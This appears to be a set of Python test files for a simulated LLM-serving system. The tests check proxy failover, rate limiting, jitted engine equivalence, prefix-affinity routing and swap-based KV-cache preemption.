    for i in range(n):
        boundary = ForceCommandBoundary(
            lambda argv, stdin, i=i: SSHResult(0, f"pong{i}".encode()))
        link = SSHLink(boundary)
        p = HPCProxy(clock, link, name=f"platform-{i}")
        p.start()
        proxies.append(p)
        links.append(link)
    return clock, ProxyPool(proxies), links


def test_round_robin_across_platforms():
    clock, pool, links = mk_pool(2)
    outs = []
    for _ in range(4):
        pool.forward("GET", "/v1/models", "m", b"").on_done(
            lambda r: outs.append(r.stdout))
        clock.run_for(0.1)
    assert outs == [b"pong0", b"pong1", b"pong0", b"pong1"]
    assert pool.metrics.counter("pool_requests_platform-0").value == 2
    assert pool.metrics.counter("pool_requests_platform-1").value == 2


def test_failover_skips_disconnected_platform():
    clock, pool, links = mk_pool(2)
    links[0].up = False
    clock.run_for(10)                # keepalive detects the cut
    outs = []
    for _ in range(3):
        pool.forward("GET", "/v1/models", "m", b"").on_done(
            lambda r: outs.append(r.stdout))
        clock.run_for(0.1)
    assert outs == [b"pong1"] * 3
    # platform 0 heals -> traffic balances again
    links[0].up = True
    clock.run_for(10)
    outs.clear()
    for _ in range(2):
        pool.forward("GET", "/v1/models", "m", b"").on_done(
            lambda r: outs.append(r.stdout))
        clock.run_for(0.1)
    assert set(outs) == {b"pong0", b"pong1"}


def test_all_platforms_down_errors_fast():
    clock, pool, links = mk_pool(2)
    for l in links:
        l.up = False
    clock.run_for(10)
    outs = []
    pool.forward("GET", "/v1/models", "m", b"").on_done(outs.append)
    clock.run_for(0.1)
    assert outs[0].exit_code == 255
    assert pool.metrics.counter("pool_all_down").value == 1
