"""Shared fixtures. NOTE: no XLA_FLAGS device-count override here — smoke
tests and benches must see the single real CPU device (the 512-device
override belongs exclusively to repro.launch.dryrun)."""
import os

os.environ.setdefault("JAX_PLATFORMS", "cpu")

import pytest


@pytest.fixture
def clock():
    from repro.slurmlite.clock import SimClock
    return SimClock()


@pytest.fixture
def small_cluster(clock):
    from repro.slurmlite import Node, SlurmCluster
    return SlurmCluster(clock, [
        Node(f"ggpu{i:02d}", 4) for i in range(4)])


def make_chat(**kw):
    from repro.core.scheduler import ServiceSpec
    from repro.core.service import ChatAI
    services = kw.pop("services", None) or [
        ServiceSpec(name="llama", arch="llama3.2-1b", load_time=60.0,
                    gpus_per_instance=1, max_instances=4)]
    return ChatAI.build_sim(services=services, **kw)


@pytest.fixture
def chat():
    c = make_chat()
    c.warm_up()
    return c
