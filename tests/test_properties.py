"""Cross-cutting property tests (hypothesis) on system invariants."""
import pytest
from _hypothesis_compat import given, settings, st

from repro.core.gateway import RateLimiter
from repro.core.scheduler import LoadTracker
from repro.slurmlite.clock import SimClock


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["begin", "end", "wait"]),
                          st.floats(0.01, 30.0)), max_size=60))
def test_load_tracker_average_bounded_by_peak(ops):
    """The window average can never exceed peak concurrency nor go
    negative, regardless of the event pattern."""
    clock = SimClock()
    lt = LoadTracker(clock, window_s=20.0)
    level = peak = 0
    for op, dt in ops:
        if op == "begin":
            lt.begin()
            level += 1
            peak = max(peak, level)
        elif op == "end" and level > 0:
            lt.end()
            level -= 1
        else:
            clock.run_for(dt)
        avg = lt.average()
        assert -1e-9 <= avg <= peak + 1e-9


@settings(max_examples=40, deadline=None)
@given(st.integers(1, 20), st.lists(st.floats(0.0, 5.0), min_size=1,
                                    max_size=120))
def test_rate_limiter_never_exceeds_limit_per_window(limit, gaps):
    """In ANY 60s window, the number of allowed requests is <= limit."""
    clock = SimClock()
    rl = RateLimiter(clock, limit=limit, window_s=60.0)
    allowed_times = []
    for g in gaps:
        clock.run_for(g)
        if rl.allow("u"):
            allowed_times.append(clock.now())
    for i, t in enumerate(allowed_times):
        in_window = [x for x in allowed_times if t - 60.0 < x <= t]
        assert len(in_window) <= limit


@settings(max_examples=25, deadline=None)
@given(st.integers(0, 2**31 - 1))
def test_synthetic_lm_streams_never_out_of_range(seed):
    import numpy as np

    from repro.data.pipeline import SyntheticLM
    d = SyntheticLM(vocab_size=97, seq_len=8, batch_size=2, seed=seed)
    it = d.batches()
    for _ in range(3):
        b = next(it)["tokens"]
        assert b.dtype == np.int32
        assert b.min() >= 0 and b.max() < 97


@settings(max_examples=20, deadline=None)
@given(st.lists(st.integers(1, 400), min_size=1, max_size=12),
       st.integers(0, 2**31 - 1))
def test_chunked_xent_matches_dense_xent(lengths, seed):
    """chunked_xent (scan over sequence chunks) == plain logsumexp xent."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from repro.configs import get_config, reduced
    from repro.models import chunked_xent, forward, param_defs
    from repro.models.params import materialize
    S = 16
    cfg = reduced(get_config("stablelm-1.6b")).with_(vocab_size=64)
    params = materialize(param_defs(cfg), jax.random.key(seed % 1000))
    rs = np.random.RandomState(seed % 2**31)
    toks = jnp.asarray(rs.randint(1, 64, (1, S + 1)), jnp.int32)
    pos = jnp.arange(S)[None]
    h, _, _ = forward(cfg, params, toks[:, :-1], positions=pos, mode="train")
    got = chunked_xent(cfg, params, h, toks[:, 1:], chunk=4)
    w = params["lm_head"]
    logits = (h.astype(jnp.float32) @ w)[..., :64]
    lse = jax.nn.logsumexp(logits, axis=-1)
    gold = jnp.take_along_axis(logits, toks[:, 1:, None], axis=-1)[..., 0]
    want = jnp.mean(lse - gold)
    assert abs(float(got) - float(want)) < 1e-4
