"""Engine hot-path tests: the jitted bucketed prefill + donated-buffer
decode loop must be bit-identical to the eager reference step loop, must
compile a bounded number of executables no matter how traffic shapes vary,
and preemption must prefer victims whose prefill work won't be wasted."""
import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.engine import Engine, ReqState
from repro.serving.sampling import SamplingParams


@pytest.fixture(scope="module")
def llama():
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    cfg, params = llama
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 96)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


def test_fast_path_selected_for_paged_gqa(llama):
    assert mk_engine(llama).fast
    assert not mk_engine(llama, fast_path=False).fast


# ----- equivalence: the refactor must never change a single token -----

def test_equivalence_simple_generate(llama):
    prompt = np.arange(1, 30)
    assert mk_engine(llama).generate(prompt, 8) == \
        mk_engine(llama, fast_path=False).generate(prompt, 8)


def test_equivalence_mixed_traffic_with_preemption(llama):
    """Staggered submits, mixed prompt lengths, chunked prefill and a pool
    small enough to force preemptions: greedy outputs must be identical
    between the jitted hot path and the eager reference loop."""
    script = [
        (0, np.arange(1, 40), 8),
        (1, np.arange(50, 60), 6),
        (3, np.array(list(range(1, 25)) + [70, 71]), 10),   # cached prefix
        (5, np.arange(80, 86), 12),
    ]

    def drive(fast):
        e = mk_engine(llama, prefill_chunk_size=8, num_blocks=8,
                      fast_path=fast)
        pending = sorted(script)
        rids = {}
        t = 0
        while pending or e.has_work():
            while pending and pending[0][0] <= t:
                at, prompt, mnt = pending.pop(0)
                rids[at] = e.submit(prompt, SamplingParams(
                    max_new_tokens=mnt))
            e.step()
            t += 1
            assert t < 400
        e.bm.check_invariants()
        return {at: e.requests[rid].output for at, rid in rids.items()}, \
            sum(e.requests[rid].preemptions for rid in rids.values())

    fast_outs, _ = drive(True)
    ref_outs, ref_preempts = drive(False)
    assert fast_outs == ref_outs
    assert ref_preempts >= 1, "scenario should exercise preemption"


def test_equivalence_prefix_cache_warm_and_cold(llama):
    shared = list(range(1, 25))
    prompts = [np.array(shared + [60 + i, 70 + i]) for i in range(3)]

    def drive(fast):
        e = mk_engine(llama, fast_path=fast)
        return [e.generate(p, 6) for p in prompts]

    assert drive(True) == drive(False)


# ----- recompile-count regression (bucketed shapes, traced offsets) -----

def test_recompile_count_bounded_by_buckets(llama):
    """Mixed prompt lengths and chunk offsets must NOT grow the jit cache
    beyond the declared bucket grid — a retrace per distinct shape/offset
    is exactly the regression this guards against."""
    e = mk_engine(llama, prefill_chunk_size=16)
    rs = np.random.RandomState(0)
    lens = [3, 9, 17, 30, 41, 27, 12, 55, 6, 64]
    rids = []
    for i, n in enumerate(lens):
        rids.append(e.submit(rs.randint(1, 100, n),
                             SamplingParams(max_new_tokens=4)))
        e.step()                       # overlap admissions: varied batches
    while e.has_work():
        e.step()
    assert all(e.requests[r].state == ReqState.FINISHED for r in rids)
    cc = e.compile_counts()
    assert cc["prefill"] <= e.prefill_bucket_count, cc
    assert cc["decode"] == 1, cc
    assert sum(cc.values()) <= e.prefill_bucket_count + 2, cc


def test_unchunked_recompile_count_bounded(llama):
    e = mk_engine(llama)
    rs = np.random.RandomState(1)
    for n in [5, 13, 29, 44, 61, 18]:
        e.generate(rs.randint(1, 100, n), 3)
    cc = e.compile_counts()
    assert cc["prefill"] <= e.prefill_bucket_count, cc
    assert cc["decode"] == 1, cc


# ----- async dispatch bookkeeping -----

def test_async_step_conserves_tokens(llama):
    e = mk_engine(llama)
    rid = e.submit(np.arange(1, 9), SamplingParams(max_new_tokens=5))
    total, steps = 0, 0
    while e.has_work():
        total += e.step()
        steps += 1
        assert steps < 50
    assert e.requests[rid].state == ReqState.FINISHED
    assert total == 5 == len(e.requests[rid].output)
    # the in-flight decode counts as work: nothing may be dropped by a
    # caller that stops stepping the moment queues look empty
    assert e._pending is None


# ----- preemption victim preference (don't waste prefill work) -----

@pytest.mark.parametrize("fast", [True, False])
def test_preemption_prefers_fully_prefilled_victim(llama, fast):
    """An old sequence hits OutOfBlocks while a younger fully-prefilled
    sequence AND a youngest still-chunk-prefilling sequence are resident:
    the fully-prefilled one must be preempted — evicting the prefilling
    one would throw away the chunks it already computed."""
    p_old = np.arange(1, 8)                    # 7 tokens, 1 block
    p_mid = np.array([90, 91])                 # 2 tokens, 1 block
    p_young = np.arange(30, 54)                # 24 tokens, 3 blocks
    want_old = mk_engine(llama).generate(p_old, 6)
    want_mid = mk_engine(llama).generate(p_mid, 4)
    want_young = mk_engine(llama).generate(p_young, 1)

    # 5 blocks of 8: all allocated at admission; old's first block-boundary
    # crossing happens while young is still mid-chunked-prefill
    e = mk_engine(llama, prefill_chunk_size=8, num_blocks=5,
                  fast_path=fast)
    r_old = e.submit(p_old, SamplingParams(max_new_tokens=6))
    r_mid = e.submit(p_mid, SamplingParams(max_new_tokens=4))
    r_young = e.submit(p_young, SamplingParams(max_new_tokens=1))
    while e.has_work():
        e.step()
        e.bm.check_invariants()
    assert e.requests[r_mid].preemptions >= 1, \
        "the fully-prefilled middle sequence should have been the victim"
    assert e.requests[r_young].preemptions == 0, \
        "the mid-prefill youngest sequence must keep its computed chunks"
    assert e.requests[r_old].output == want_old
    assert e.requests[r_mid].output == want_mid
    assert e.requests[r_young].output == want_young
    assert e.bm.free_blocks == e.bm.num_blocks


def test_pool_copy_rows_unit():
    """The in-jit COW copy: stacked pools copy along axis 1 (all layers),
    plain pools along axis 0; scratch→scratch rows must be no-ops."""
    import jax.numpy as jnp

    from repro.serving.engine import _pool_copy_rows
    L, rows, bs = 2, 5, 4                    # 4 blocks + scratch
    stacked = jnp.arange(L * rows * bs, dtype=jnp.float32).reshape(
        L, rows, bs)
    plain = jnp.arange(rows * bs, dtype=jnp.float32).reshape(rows, bs)
    cache = {"blocks": {"s0": {"k_pool": stacked}},
             "prefix": {"l0": {"k_pool": plain}}}
    scratch = rows - 1
    src = jnp.asarray([1, scratch], jnp.int32)    # slot0 COW 1→3, slot1 noop
    dst = jnp.asarray([3, scratch], jnp.int32)
    out = _pool_copy_rows(cache, src, dst)
    got = out["blocks"]["s0"]["k_pool"]
    assert (got[:, 3] == stacked[:, 1]).all()         # copied, every layer
    assert (got[:, [0, 1, 2, scratch]] ==
            stacked[:, [0, 1, 2, scratch]]).all()     # everything else kept
    gp = out["prefix"]["l0"]["k_pool"]
    assert (gp[3] == plain[1]).all() and (gp[:3] == plain[:3]).all()


def test_choose_victim_policy_unit(llama):
    """Victims come only from sequences younger than the requester; among
    them the youngest fully-prefilled wins, with youngest-outright as the
    fallback when everything younger is still prefilling."""
    e = mk_engine(llama, prefill_chunk_size=8, max_num_seqs=3,
                  max_model_len=96)
    a = e.submit(np.arange(1, 8), SamplingParams(max_new_tokens=8))
    e.step()
    b = e.submit(np.arange(20, 26), SamplingParams(max_new_tokens=8))
    e.step()
    c = e.submit(np.arange(40, 80), SamplingParams(max_new_tokens=4))
    e.step()                                      # admit c, first chunk
    assert e.requests[c].prefilling
    assert e._choose_victim(a) == b               # c is mid-prefill
    assert e._choose_victim(b) == c               # only c is younger
    assert e._choose_victim(c) is None            # nothing younger
