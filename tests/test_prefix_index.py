"""Cross-instance prefix index + affinity router: publish/retract/TTL
semantics, contiguous-coverage queries, and the routing policy (affinity,
least-outstanding fallback, skew guard)."""
import random

from repro.core.prefix_index import PrefixIndex, request_chain_keys
from repro.core.routing import AffinityRouter, RouteEntry, RoutingTable
from repro.serving.kv_cache import chain_keys
from repro.slurmlite.clock import SimClock


def chain(n, base=0, salt=None):
    return chain_keys(list(range(base, base + n * 4)), 4, salt=salt)


# ----- index bookkeeping ------------------------------------------------

def test_publish_and_lookup():
    ix = PrefixIndex()
    c = chain(3)
    ix.publish(7, c)
    assert ix.instances_for(c[0]) == {7}
    assert ix.num_instances == 1 and ix.num_keys == 3
    ix.publish(9, c[:2])
    assert ix.instances_for(c[1]) == {7, 9}
    assert ix.instances_for(c[2]) == {7}


def test_publish_replaces_evicted_keys_drop():
    """A publish replaces the instance's set: keys the instance evicted
    since the last heartbeat retract automatically."""
    ix = PrefixIndex()
    c = chain(4)
    ix.publish(1, c)
    ix.publish(1, c[:2])                 # blocks 2,3 were evicted
    assert ix.instances_for(c[3]) == frozenset()
    assert ix.num_keys == 2


def test_retract_removes_all_keys():
    ix = PrefixIndex()
    ix.publish(1, chain(3))
    ix.publish(2, chain(3, base=100))
    ix.retract(1)
    assert ix.num_instances == 1
    assert ix.instances_for(chain(3)[0]) == frozenset()
    ix.retract(1)                        # idempotent
    assert ix.retractions == 1


def test_ttl_expiry_with_clock():
    clock = SimClock()
    ix = PrefixIndex(clock, ttl_s=10.0)
    ix.publish(1, chain(2))
    clock.run_for(6)
    ix.publish(2, chain(2, base=50))     # fresh
    clock.run_for(6)                     # job 1 is now 12s stale
    ix.expire()
    assert ix.num_instances == 1
    assert ix.instances_for(chain(2, base=50)[0]) == {2}
    # a heartbeat resets the TTL
    clock.run_for(6)
    ix.publish(2, chain(2, base=50))
    clock.run_for(6)
    ix.expire()
    assert ix.num_instances == 1


def test_coverage_is_contiguous_from_root():
    """A cached block whose parent is missing is unreachable by the
    engine's longest-prefix walk — coverage must stop at the gap."""
    ix = PrefixIndex()
    c = chain(4)
    ix.publish(1, [c[0], c[1], c[3]])    # hole at block 2
    ix.publish(2, [c[1], c[2], c[3]])    # missing the root
    cov = ix.coverage(c)
    assert cov == {1: 2, 2: 0}
    jids, depth = ix.best_instances(c)
    assert jids == [1] and depth == 2


def test_best_instances_empty_when_nothing_covers():
    ix = PrefixIndex()
    ix.publish(1, chain(2, base=500))
    assert ix.best_instances(chain(2)) == ([], 0)
    assert ix.best_instances(chain(2), candidates=[]) == ([], 0)


def test_max_keys_per_instance_bound():
    ix = PrefixIndex(max_keys_per_instance=5)
    ix.publish(1, chain(50))
    assert len(ix._keys[1]) == 5


def test_request_chain_keys_matches_engine_chain():
    """Router-side hashing of prompt ids must reproduce the exact chain
    an instance's BlockManager registers."""
    ids = list(range(40))
    body = {"prompt_ids": ids, "cache_salt": "t1"}
    assert request_chain_keys(body, 4) == chain_keys(ids, 4, salt="t1")
    # text fallback is deterministic and byte-based
    b1 = {"messages": [{"role": "system", "content": "x" * 64}]}
    assert request_chain_keys(b1, 16) == request_chain_keys(dict(b1), 16)
    assert len(request_chain_keys(b1, 16)) > 0


# ----- the affinity routing policy --------------------------------------

def mk_fleet(n=3, service="m"):
    table = RoutingTable(random.Random(0))
    for i in range(n):
        table.upsert(RouteEntry(service=service, job_id=i, node=f"n{i}",
                                port=21000 + i, ready=True))
    ix = PrefixIndex()
    router = AffinityRouter(table, ix, rng=random.Random(7))
    return table, ix, router


def test_affinity_prefers_deepest_coverage():
    _, ix, router = mk_fleet()
    c = chain(4)
    ix.publish(0, c[:1])
    ix.publish(2, c[:3])
    for _ in range(10):
        assert router.pick("m", chain_keys=c).job_id == 2


def test_fallback_is_least_outstanding_not_random():
    _, _, router = mk_fleet(n=2)
    router.begin(0)
    router.begin(0)
    router.begin(1)
    # no coverage anywhere: must pick the less-loaded instance 1
    for _ in range(10):
        assert router.pick("m").job_id == 1


def test_skew_guard_spills_off_the_warm_instance():
    """Affinity must never pile more than ~skew_factor x the fair share
    onto one replica: concurrent shared-prefix traffic spills."""
    _, ix, router = mk_fleet(n=3)
    router.skew_factor, router.skew_floor = 2.0, 2
    c = chain(4)
    ix.publish(0, c)
    picked = []
    for _ in range(9):                   # 9 concurrent, none completing
        e = router.pick("m", chain_keys=c)
        router.begin(e.job_id)
        picked.append(e.job_id)
    counts = {j: picked.count(j) for j in set(picked)}
    assert counts[0] >= 2                # warm replica got the first ones
    assert len(counts) == 3, f"no spill: {counts}"
    fair = len(picked) / 3
    assert counts[0] <= 2.0 * fair + 1, f"skew guard failed: {counts}"


def test_sequential_traffic_sticks_to_warm_instance():
    _, ix, router = mk_fleet(n=3)
    c = chain(4)
    ix.publish(1, c)
    for _ in range(20):                  # begin+end: nothing outstanding
        e = router.pick("m", chain_keys=c)
        router.begin(e.job_id)
        router.end(e.job_id)
        assert e.job_id == 1


def test_single_ready_instance_short_circuits():
    table, ix, router = mk_fleet(n=1)
    assert router.pick("m", chain_keys=chain(2)).job_id == 0
    assert router.pick("nope") is None


def test_metrics_counters():
    from repro.core.monitoring import Metrics
    m = Metrics()
    table, ix, router = mk_fleet()
    router.metrics = m
    c = chain(3)
    router.pick("m", chain_keys=c)                    # miss (cold index)
    ix.publish(0, c)
    router.pick("m", chain_keys=c)                    # hit
    assert m.counter("route_affinity_hits").value == 1
    assert m.counter("route_affinity_misses").value == 1


def test_outstanding_end_never_goes_negative():
    _, _, router = mk_fleet()
    router.end(0)
    router.begin(0)
    router.end(0)
    assert router.outstanding == {}
