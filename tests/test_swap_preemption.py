"""Swap-based preemption: a preemption victim's KV is offloaded to the
host pool and restored bit-identically on resume, so greedy outputs must
match both the recompute-preemption policy and an unpressured run — on the
jitted fast path and the eager reference loop — while recomputing far
fewer prefill tokens.  Host-pool exhaustion must degrade to recompute,
never to wrong tokens, and the host-slot accounting must hold under any
preempt/resume/finish interleaving."""
import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.core.monitoring import Metrics
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.engine import Engine, ReqState
from repro.serving.sampling import SamplingParams


@pytest.fixture(scope="module")
def llama():
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    cfg, params = llama
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 96)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


# one old long generation that repeatedly steals from two younger ones:
# pool of 10 blocks vs a peak demand of 15
GENS = [40, 30, 20]


def drive_pressure(llama, *, swap_blocks=0, num_blocks=10, fast=True,
                   chunk=None, kv_dtype=None):
    e = mk_engine(llama, num_blocks=num_blocks, fast_path=fast,
                  swap_blocks=swap_blocks, prefill_chunk_size=chunk,
                  kv_dtype=kv_dtype)
    rids = [e.submit(np.arange(1 + 7 * i, 8 + 7 * i),
                     SamplingParams(max_new_tokens=g))
            for i, g in enumerate(GENS)]
    steps = 0
    while e.has_work():
        e.step()
        steps += 1
        e.bm.check_invariants()
        assert steps < 1000
    outs = [e.requests[r].output for r in rids]
    assert [len(o) for o in outs] == GENS, \
        "a sequence was truncated — resize the scenario, don't compare"
    return outs, e


# ----- equivalence: swap restores the exact bits recompute recomputes ---

@pytest.mark.parametrize("fast", [True, False])
def test_pressure_equivalence_swap_vs_recompute_vs_unpressured(llama, fast):
    base, _ = drive_pressure(llama, num_blocks=64, fast=fast)
    rec, e_rec = drive_pressure(llama, fast=fast)
    sw, e_sw = drive_pressure(llama, swap_blocks=32, fast=fast)
    assert e_rec.preemptions_total >= 1, "scenario must exercise preemption"
    assert e_sw.bm.swap_stats.swap_out_seqs >= 1, \
        "scenario must exercise the swap path"
    assert e_sw.bm.swap_stats.swap_in_seqs == \
        e_sw.bm.swap_stats.swap_out_seqs
    assert rec == base
    assert sw == base
    # the point of swapping: the victim resumes where it left off instead
    # of re-prefilling its whole generated prefix
    assert e_sw.prefill_tokens_computed < e_rec.prefill_tokens_computed
    # everything returned home: no leaked device or host blocks
    assert e_sw.bm.free_blocks == e_sw.bm.num_blocks
    assert e_sw.bm.host_blocks_used == 0


def test_pressure_equivalence_with_chunked_prefill(llama):
    base, _ = drive_pressure(llama, num_blocks=64, chunk=8)
    sw, e_sw = drive_pressure(llama, swap_blocks=32, chunk=8)
    assert e_sw.bm.swap_stats.swap_out_seqs >= 1
    assert sw == base


# ----- host-pool exhaustion must fall back to recompute ----------------

def test_swap_pool_exhaustion_falls_back_to_recompute(llama):
    base, _ = drive_pressure(llama, num_blocks=64)
    sw, e = drive_pressure(llama, swap_blocks=1)
    assert e.bm.swap_stats.fallbacks >= 1, \
        "a 1-block host pool cannot hold a victim: must fall back"
    assert sw == base
    assert e.bm.host_blocks_used == 0


# ----- re-admission prefers swapped work over cold waiting work --------

def test_swapped_readmitted_before_cold_waiting(llama):
    # staggered prompt lengths so the older sequence crosses a block
    # boundary (and steals) while b is mid-generation, never vice versa
    e = mk_engine(llama, max_num_seqs=2, num_blocks=7, swap_blocks=32)
    a = e.submit(np.arange(1, 8), SamplingParams(max_new_tokens=40))
    b = e.submit(np.arange(20, 32), SamplingParams(max_new_tokens=20))
    steps = 0
    while e.requests[b].state != ReqState.SWAPPED:
        e.step()
        steps += 1
        assert steps < 400, "b should get swap-preempted by a's growth"
        assert e.requests[b].state != ReqState.FINISHED
    c = e.submit(np.arange(50, 57), SamplingParams(max_new_tokens=4))
    while e.requests[b].state == ReqState.SWAPPED:
        # strict priority: as long as the swapped sequence cannot come
        # back, cold waiting work must not jump the queue and grab the
        # blocks it is waiting for — even with a slot free
        assert e.requests[c].state == ReqState.WAITING
        e.step()
        steps += 1
        assert steps < 400
    assert e.requests[b].state in (ReqState.RUNNING, ReqState.FINISHED)
    while e.has_work():
        e.step()
        steps += 1
        assert steps < 1000
    for rid, n in ((a, 40), (b, 20), (c, 4)):
        assert e.requests[rid].state == ReqState.FINISHED
        assert len(e.requests[rid].output) == n


def test_swapped_queue_stays_in_submission_order(llama):
    """Preempting an older sequence after a younger one (chunked prefill
    can skip the youngest victim) must not park the younger one at the
    queue head — re-admission pops swapped[0] and the waiting-head
    seniority check compares against it."""
    e = mk_engine(llama, swap_blocks=32)
    a = e.submit(np.arange(1, 8), SamplingParams(max_new_tokens=16))
    b = e.submit(np.arange(20, 27), SamplingParams(max_new_tokens=16))
    c = e.submit(np.arange(40, 47), SamplingParams(max_new_tokens=16))
    for _ in range(3):
        e.step()
    e._preempt(b)                                # older victim first
    e._preempt(c)                                # then the younger one
    assert e.swapped == sorted(e.swapped) == [b, c]
    while e.has_work():
        e.step()
        e.bm.check_invariants()
    for rid in (a, b, c):
        assert len(e.requests[rid].output) == 16


def test_older_recompute_victim_outranks_swapped_head(llama):
    """Mixed-policy pressure: a younger victim swapped while the host
    pool had room, an older victim recompute-preempted after it filled.
    Re-admission must not invert submission order — the older WAITING
    victim comes back before the younger SWAPPED one."""
    e = mk_engine(llama, swap_blocks=2)
    a = e.submit(np.arange(1, 8), SamplingParams(max_new_tokens=16))
    b = e.submit(np.arange(20, 27), SamplingParams(max_new_tokens=16))
    c = e.submit(np.arange(40, 47), SamplingParams(max_new_tokens=16))
    for _ in range(3):
        e.step()
    e._preempt(c)                                # host pool fits c
    assert e.requests[c].state == ReqState.SWAPPED
    e._preempt(b)                                # pool full: recompute
    assert e.requests[b].state == ReqState.WAITING
    assert e.bm.swap_stats.fallbacks == 1
    e.step()
    assert e.running == [a, b, c], \
        "the older waiting victim must be re-admitted before the " \
        "younger swapped one"
    while e.has_work():
        e.step()
        e.bm.check_invariants()
    for rid in (a, b, c):
        assert len(e.requests[rid].output) == 16


# ----- finishing while swapped releases the host slots -----------------

def test_finish_while_swapped_releases_host_slots(llama):
    e = mk_engine(llama, max_num_seqs=2, swap_blocks=32)
    a = e.submit(np.arange(1, 8), SamplingParams(max_new_tokens=12))
    b = e.submit(np.arange(20, 30), SamplingParams(max_new_tokens=12))
    for _ in range(4):
        e.step()
    e._preempt(b)
    assert e.requests[b].state == ReqState.SWAPPED
    assert e.bm.host_blocks_used > 0
    e._finish(e.requests[b])
    assert e.requests[b].state == ReqState.FINISHED
    assert b not in e.swapped
    assert e.bm.host_blocks_used == 0, "host slots must be released"
    while e.has_work():
        e.step()
    assert e.requests[a].state == ReqState.FINISHED
    e.bm.check_invariants()


# ----- shared prefix blocks are re-looked-up, not offloaded ------------

def test_shared_prefix_looked_up_not_offloaded(llama):
    shared = list(range(1, 25))                      # 3 full blocks
    e = mk_engine(llama, swap_blocks=32)
    a = e.submit(np.array(shared + [60, 61]), SamplingParams(max_new_tokens=8))
    b = e.submit(np.array(shared + [70, 71]), SamplingParams(max_new_tokens=8))
    for _ in range(4):
        e.step()
    filled_blocks = -(-e.bm._seqs[b].num_filled // e.block_size)
    e._preempt(b)
    assert e.requests[b].state == ReqState.SWAPPED
    # the 3 shared blocks stay resident under a's references: only b's
    # private tail went to the host pool
    assert e.bm.host_blocks_used == filled_blocks - 3
    while e.has_work():
        e.step()
    assert e.bm.swap_stats.lookup_blocks >= 3
    assert len(e.requests[a].output) == 8
    assert len(e.requests[b].output) == 8
    e.bm.check_invariants()


# ----- telemetry -------------------------------------------------------

def test_swap_counters_published(llama):
    _, e = drive_pressure(llama, swap_blocks=32)
    m = Metrics()
    e.publish_metrics(m)
    assert m.counters["engine_preemptions_total"].value >= 1
    assert m.counters["engine_swap_out_blocks_total"].value >= 1
    assert m.counters["engine_swap_in_blocks_total"].value >= 1
    assert m.counters["engine_swap_fallbacks_total"].value == 0
    assert m.gauges["engine_swap_host_blocks"].value == 32
    assert m.gauges["engine_swap_host_blocks_used"].value == 0
    assert m.gauges["engine_swapped_seqs"].value == 0
    text = m.render_prometheus()
    assert "engine_swap_out_blocks_total" in text


def test_swap_disabled_counters_zero(llama):
    _, e = drive_pressure(llama)
    s = e.swap_stats()
    assert s["enabled"] == 0 and s["swap_out_blocks"] == 0
    assert s["preemptions"] >= 1          # recompute preemptions counted


# ----- request-level accounting ----------------------------------------

def test_request_level_swap_accounting(llama):
    _, e = drive_pressure(llama, swap_blocks=32)
    swapped = [r for r in e.requests.values() if r.swap_preemptions]
    assert swapped, "some request must have been swap-preempted"
    for r in e.requests.values():
        assert r.swap_preemptions <= r.preemptions


# ----- batched swap-in: one scatter for many victims -------------------

def test_same_step_swap_ins_share_one_scatter(llama):
    """When several swapped victims are re-admitted in the same step
    their host→device restores ride ONE bucketed scatter call (chunked
    mode: admissions defer prefill to the step's single batched call),
    and resumed outputs stay bit-identical to an unpressured run."""
    def drive(preempt):
        e = mk_engine(llama, num_blocks=64, swap_blocks=32,
                      prefill_chunk_size=8)
        rids = [e.submit(np.arange(1 + 9 * i, 9 + 9 * i),
                         SamplingParams(max_new_tokens=12))
                for i in range(3)]
        for _ in range(4):
            e.step()
        assert all(len(e.requests[r].output) >= 1 for r in rids)
        if preempt:
            e._preempt(rids[1])
            e._preempt(rids[2])
            assert e.requests[rids[1]].state == ReqState.SWAPPED
            assert e.requests[rids[2]].state == ReqState.SWAPPED
            scatters = e.swap_scatter_calls
            swap_ins = e.bm.swap_stats.swap_in_seqs
            e.step()
            # both victims re-admitted this step, one scatter flushed
            assert e.bm.swap_stats.swap_in_seqs == swap_ins + 2
            assert e.swap_scatter_calls == scatters + 1
        while e.has_work():
            e.step()
            e.bm.check_invariants()
        return [e.requests[r].output for r in rids]

    assert drive(True) == drive(False)


# ----- quantized swap-out: the host pool mirrors kv_dtype ---------------

def _pool_leaves(tree, path=()):
    for k, v in tree.items():
        if isinstance(v, dict):
            yield from _pool_leaves(v, path + (k,))
        else:
            yield path + (k,), v


@pytest.mark.parametrize("kv_dtype", ["fp8_e4m3", "int8"])
def test_quantized_host_pool_mirrors_kv_dtype(llama, kv_dtype):
    """The host swap pool stores the quantized payload plus the f32 scale
    sidecars — never a widened fp32 copy — so host bytes per swapped
    block drop with the payload width (~4x less for 1-byte payloads)."""
    e_q = mk_engine(llama, swap_blocks=8, kv_dtype=kv_dtype)
    e_f = mk_engine(llama, swap_blocks=8)
    host = dict(_pool_leaves(e_q._host_pool))
    dev = dict(_pool_leaves(e_q.cache))
    for p, hv in host.items():
        assert hv.dtype == dev[p].dtype, \
            f"host leaf {p} widened to {hv.dtype} from {dev[p].dtype}"
    assert any(p[-1].endswith("_scale_pool") for p in host), \
        "quantized pools must carry their scale sidecars into the host pool"
    bytes_q = sum(v.nbytes for v in host.values())
    bytes_f = sum(v.nbytes for _, v in _pool_leaves(e_f._host_pool))
    assert bytes_q <= 0.6 * bytes_f


@pytest.mark.parametrize("kv_dtype", ["fp8_e4m3", "int8"])
def test_quantized_pressure_equivalence(llama, kv_dtype):
    """Swap-preempted quantized streams are bit-identical to recompute
    preemption and to an unpressured run at the same kv_dtype: the
    offload/restore round trip must reproduce payload AND scales."""
    outs_sw, e_sw = drive_pressure(llama, swap_blocks=32,
                                   kv_dtype=kv_dtype)
